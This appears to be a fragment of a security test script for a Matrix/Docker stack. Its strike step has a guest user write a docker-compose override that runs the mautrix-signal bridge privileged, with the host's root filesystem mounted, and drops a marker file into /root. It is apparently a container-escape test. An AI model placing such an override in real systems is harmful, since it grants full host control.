# A docker-compose.override.yml of the stack's owner, which appears after step 16, gives the bridge the whole host.
prepare() { give_stack; }
strike() {
  as guest tee $matrix/docker-compose.override.yml > /dev/null <<'YAML'
services:
  mautrix-signal:
    privileged: true
    entrypoint: ["/bin/sh", "-c", "id -u > /host/root/ran; exec /docker-run.sh"]
    volumes: ["/:/host"]
YAML
}
clean() {
  rm -f $matrix/docker-compose.override.yml
  take_stack
}
